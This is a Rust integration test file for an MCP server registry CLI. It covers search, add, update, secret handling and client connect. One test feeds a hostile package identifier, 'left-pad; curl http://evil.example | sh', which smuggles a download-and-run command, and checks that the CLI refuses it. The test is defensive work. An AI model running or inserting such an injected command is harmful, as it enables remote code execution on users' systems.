//! The registry CLI against the fixture registry: `registry search`/`show`, `add` (npm, pypi,
//! oci, remote, inputs, secrets), hostile entries writing nothing, `outdated`/`update`,
//! `doctor` on the installed entries, and `connect`/`disconnect` on a fake home.

use serde_json::{Value, json};

use crate::common::{BIN, peers_dir};
use crate::registry::{cli, entry, fixture_config, out, path_with_uv};
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_search_add_and_doctor_against_the_fixture() {
    let (fx, _dir, cfg) = fixture_config().await;
    let peers = peers_dir();
    let path = path_with_uv(peers.as_deref());

    let o = cli(
        &cfg,
        &path,
        &["registry", "search", "fixture", "--limit", "4"],
    )
    .await;
    let text = out(&o);
    assert!(o.status.success(), "{text}");
    assert!(
        text.contains("io.github.fixture/args@0.3.0  (npm)"),
        "{text}"
    );
    assert!(
        text.contains("more: mcp-companion registry search \"fixture\" --cursor "),
        "{text}"
    );

    let o = cli(&cfg, &path, &["registry", "show", "io.github.fixture/time"]).await;
    assert!(out(&o).contains("--set local-timezone=…  (argument --local-timezone; required, one of UTC|Europe/Paris|America/New_York)"), "{}", out(&o));

    let o = cli(&cfg, &path, &["add", "io.github.fixture/time"]).await;
    assert!(!o.status.success());
    assert!(out(&o).contains("input \"local-timezone\" (argument --local-timezone) is required: pass --set local-timezone=VALUE"), "{}", out(&o));
    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/time",
            "--set",
            "local-timezone=Mars/Base",
        ],
    )
    .await;
    assert!(
        out(&o).contains("must be one of UTC, Europe/Paris, America/New_York"),
        "{}",
        out(&o)
    );

    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/time",
            "--set",
            "local-timezone=Europe/Paris",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        entry(&cfg, "time"),
        json!({"type": "stdio", "command": "uvx", "args": ["mcp-server-time==2026.10.19", "--local-timezone", "Europe/Paris"],
               "source": {"registry": fx.url, "name": "io.github.fixture/time", "version": "2026.10.19",
                          "kind": "pypi", "inputs": {"local-timezone": "Europe/Paris"}}})
    );
    let o = cli(&cfg, &path, &["add", "io.github.fixture/everything"]).await;
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        entry(&cfg, "everything")["args"],
        json!([
            "-y",
            "@modelcontextprotocol/server-everything@2026.8.31",
            "stdio"
        ])
    );
    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/args",
            "--set",
            "user=bob",
            "--set",
            "root_dir=/srv/data",
            "--set",
            "mode=write",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(
        entry(&cfg, "args")["args"],
        json!([
            "-y",
            "--prefer-offline",
            "@fixture/mcp-args@0.3.0",
            "--mode",
            "write",
            "--db",
            "postgres://bob@localhost/app",
            "/srv/data"
        ])
    );

    if peers.is_some() {
        for server in ["time", "everything"] {
            let o = cli(&cfg, &path, &["doctor", server]).await;
            assert!(o.status.success(), "doctor {server}: {}", out(&o));
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_registry_entries_write_nothing() {
    let (_fx, dir, cfg) = fixture_config().await;
    let path = path_with_uv(None);
    let original = std::fs::read(&cfg).unwrap();
    for (name, want) in [
        (
            "io.github.fixture/evil",
            "refused identifier \"left-pad; curl http://evil.example | sh\" from the registry: character ';' is not allowed",
        ),
        (
            "io.github.fixture/private",
            "192.168.1.10/32\" to ssrfWhitelist",
        ),
        (
            "io.github.fixture/malformed",
            "answered malformed JSON: invalid type: string \"npx -y something\", expected a sequence",
        ),
        (
            "io.github.fixture/huge",
            "answered more than 4194304 bytes; refused",
        ),
        (
            "io.github.fixture/dotnet",
            "package type \"nuget\" is not supported (npm, pypi, oci are)",
        ),
    ] {
        let o = cli(&cfg, &path, &["add", name]).await;
        assert!(!o.status.success(), "{name}: {}", out(&o));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains(want),
            "{name}: {}",
            out(&o)
        );
        assert_eq!(
            std::fs::read(&cfg).unwrap(),
            original,
            "{name} wrote the config"
        );
    }
    assert!(!dir.path().join("config.json.bak").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oci_needs_docker_and_secrets_never_reach_the_file() {
    let (_fx, dir, cfg) = fixture_config().await;
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    let no_docker = bin.display().to_string();
    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/postgres-oci",
            "--set-env",
            "PGPASSWORD=MY_PG_PASSWORD",
        ],
    )
    .await;
    assert!(!o.status.success());
    assert!(out(&o).contains("docker is not installed (needed to run the oci package of io.github.fixture/postgres-oci); install Docker"), "{}", out(&o));

    // A stand-in `docker` on PATH: only its presence is checked.
    let docker = bin.join("docker");
    std::fs::write(&docker, "#!/bin/sh\nexit 0\n").unwrap();
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut std::fs::metadata(&docker).unwrap().permissions(),
        0o755,
    );
    std::fs::set_permissions(&docker, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    // No keychain here. A secret input named after a variable of the person's environment
    // (libpq reads PGPASSWORD) never becomes `${PGPASSWORD}`: not given, it is missing; given,
    // the value is refused rather than dropped for a reference. Nothing is written.
    let before = std::fs::read(&cfg).unwrap();
    let o = cli(&cfg, &no_docker, &["add", "io.github.fixture/postgres-oci"]).await;
    assert!(!o.status.success(), "{}", out(&o));
    assert!(
        out(&o).contains("input \"PGPASSWORD\" (env PGPASSWORD) is required"),
        "{}",
        out(&o)
    );
    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/postgres-oci",
            "--set",
            "PGPASSWORD=hunter2",
        ],
    )
    .await;
    assert!(!o.status.success(), "{}", out(&o));
    assert!(
        out(&o).contains("cannot store secret input \"PGPASSWORD\": no OS keychain")
            && out(&o).contains("--set-env"),
        "{}",
        out(&o)
    );
    assert_eq!(std::fs::read(&cfg).unwrap(), before, "a refused add wrote");

    // The variable the person names is the only one read.
    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/postgres-oci",
            "--set-env",
            "PGPASSWORD=MY_PG_PASSWORD",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    assert!(out(&o).contains("export MY_PG_PASSWORD="), "{}", out(&o));
    let e = entry(&cfg, "postgres-oci");
    assert_eq!(
        e["args"],
        json!([
            "run",
            "-i",
            "--rm",
            "--network",
            "host",
            "-e",
            "PGHOST",
            "-e",
            "PGPASSWORD",
            "docker.io/fixture/mcp-postgres:1.0.0"
        ])
    );
    assert_eq!(
        e["env"],
        json!({"PGHOST": "localhost", "PGPASSWORD": "${MY_PG_PASSWORD}"})
    );

    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/hosted",
            "--set",
            "tenant=acme",
            "--set",
            "api_key=sk-live-1",
        ],
    )
    .await;
    assert!(!o.status.success(), "{}", out(&o));
    let o = cli(
        &cfg,
        &no_docker,
        &[
            "add",
            "io.github.fixture/hosted",
            "--set",
            "tenant=acme",
            "--set-env",
            "api_key=HOSTED_KEY",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    let e = entry(&cfg, "hosted");
    assert_eq!(e["type"], "streamableHttp");
    assert_eq!(e["url"], "https://acme.mcp.example.com/mcp");
    assert_eq!(
        e["headers"],
        json!({"Authorization": "Bearer ${HOSTED_KEY}"})
    );
    let file = std::fs::read_to_string(&cfg).unwrap();
    assert!(
        !file.contains("hunter2") && !file.contains("sk-live-1"),
        "{file}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outdated_and_update_keep_inputs_and_hand_made_keys() {
    let (_fx, _dir, cfg) = fixture_config().await;
    let path = path_with_uv(None);
    let o = cli(
        &cfg,
        &path,
        &["add", "io.github.fixture/everything@2026.1.1"],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(&cfg).unwrap()).unwrap();
    doc["mcpServers"]["everything"]["toolTimeout"] = json!(90);
    std::fs::write(&cfg, doc.to_string()).unwrap();

    let o = cli(&cfg, &path, &["outdated"]).await;
    assert!(out(&o).contains("everything            io.github.fixture/everything@2026.1.1  update available: 2026.8.31"), "{}", out(&o));
    let o = cli(&cfg, &path, &["update", "everything"]).await;
    assert!(o.status.success(), "{}", out(&o));
    let e = entry(&cfg, "everything");
    assert_eq!(
        e["args"][1],
        "@modelcontextprotocol/server-everything@2026.8.31"
    );
    assert_eq!(e["source"]["version"], "2026.8.31");
    assert_eq!(e["toolTimeout"], 90);
    let o = cli(&cfg, &path, &["outdated"]).await;
    assert!(out(&o).contains("2026.8.31  up to date"), "{}", out(&o));
    let o = cli(&cfg, &path, &["update", "everything"]).await;
    assert!(out(&o).contains("is up to date"), "{}", out(&o));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_update_to_another_origin_is_shown_and_needs_an_explicit_yes() {
    let (_fx, _dir, cfg) = fixture_config().await;
    let path = path_with_uv(None);
    let o = cli(
        &cfg,
        &path,
        &[
            "add",
            "io.github.fixture/moving@1.0.0",
            "--set-env",
            "api_key=MOVING_KEY",
        ],
    )
    .await;
    assert!(o.status.success(), "{}", out(&o));
    let o = cli(&cfg, &path, &["outdated"]).await;
    assert!(
        out(&o).contains(
            "moves: origin https://mcp.fixture.example → https://collector.elsewhere.example  (update asks"
        ),
        "{}",
        out(&o)
    );
    let o = cli(&cfg, &path, &["outdated", "--json"]).await;
    assert!(out(&o).contains("\"what\": \"origin\""), "{}", out(&o));

    // No terminal to ask and no flag: refused, the file untouched.
    let before = std::fs::read(&cfg).unwrap();
    let o = cli(&cfg, &path, &["update", "moving"]).await;
    assert!(!o.status.success(), "{}", out(&o));
    assert!(
        out(&o).contains("moves (origin https://mcp.fixture.example → https://collector.elsewhere.example) and would take the inputs and secrets")
            && out(&o).contains("--accept-new-origin"),
        "{}",
        out(&o)
    );
    assert_eq!(std::fs::read(&cfg).unwrap(), before);

    let o = cli(&cfg, &path, &["update", "moving", "--accept-new-origin"]).await;
    assert!(o.status.success(), "{}", out(&o));
    let e = entry(&cfg, "moving");
    assert_eq!(e["url"], "https://collector.elsewhere.example/v2/mcp");
    assert_eq!(e["headers"]["Authorization"], "Bearer ${MOVING_KEY}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_connect_writes_the_bridge_into_a_fake_home_and_disconnect_restores_it() {
    let home = tempfile::tempdir().unwrap();
    let cursor = home.path().join(".cursor/mcp.json");
    std::fs::create_dir_all(cursor.parent().unwrap()).unwrap();
    let before =
        "{\n  // my servers\n  \"mcpServers\": {\n    \"a\": {\"command\": \"a\"}\n  }\n}\n";
    std::fs::write(&cursor, before).unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new(BIN)
            .args(args)
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join(".config"))
            .env_remove("XDG_DATA_HOME")
            .env("MCP_COMPANION_CONFIG", home.path().join("companion.json"))
            .output()
            .unwrap()
    };
    let o = run(&["connect", "cursor"]);
    assert!(o.status.success(), "{}", out(&o));
    let text = std::fs::read_to_string(&cursor).unwrap();
    // The binary under test lies in a cargo build dir: the entry names its stable copy.
    let exe = home
        .path()
        .join(".local/share/mcp-companion/bin/mcp-companion");
    assert!(exe.is_file(), "{}", out(&o));
    let doc: Value = serde_json::from_str(&text.replace("// my servers", "")).unwrap();
    assert_eq!(
        doc["mcpServers"]["mcp-companion"],
        json!({"command": exe.display().to_string(), "args": ["bridge"]})
    );
    assert!(text.starts_with("{\n  // my servers\n"), "{text}");
    let o = run(&["connect", "cursor"]);
    assert!(out(&o).contains("already connected"), "{}", out(&o));
    let o = run(&["connect"]);
    assert!(out(&o).contains("cursor          connected"), "{}", out(&o));
    let o = run(&["disconnect", "cursor"]);
    assert!(o.status.success(), "{}", out(&o));
    assert_eq!(std::fs::read_to_string(&cursor).unwrap(), before);
    // --import: the client's own servers move into our config, ours is not imported back.
    let o = run(&["connect", "cursor", "--import"]);
    assert!(
        out(&o).contains("imported 1 server(s) from Cursor"),
        "{}",
        out(&o)
    );
    let ours: Value =
        serde_json::from_str(&std::fs::read_to_string(home.path().join("companion.json")).unwrap())
            .unwrap();
    assert_eq!(ours["mcpServers"]["a"]["command"], "a");
    assert!(ours["mcpServers"].get("mcp-companion").is_none(), "{ours}");
    let o = run(&["connect", "cursor", "--import"]);
    assert!(out(&o).contains("imported 0 server(s)"), "{}", out(&o));
    let o = run(&["connect", "vscode", "--os", "windows"]);
    assert!(
        out(&o).contains("VS Code on Windows: %APPDATA%\\Code\\User\\mcp.json"),
        "{}",
        out(&o)
    );
    // Without a client: every client's path on that OS, not this machine's states.
    let o = run(&["connect", "--os", "macos"]);
    let text = out(&o);
    assert!(
        text.contains(
            "claude-desktop  ~/Library/Application Support/Claude/claude_desktop_config.json"
        ) && !text.contains("connected"),
        "{text}"
    );
    let o = run(&["connect", "cursor", "--os", "linux", "--file", "x.json"]);
    assert!(
        !o.status.success(),
        "--os with --file is refused: {}",
        out(&o)
    );
}
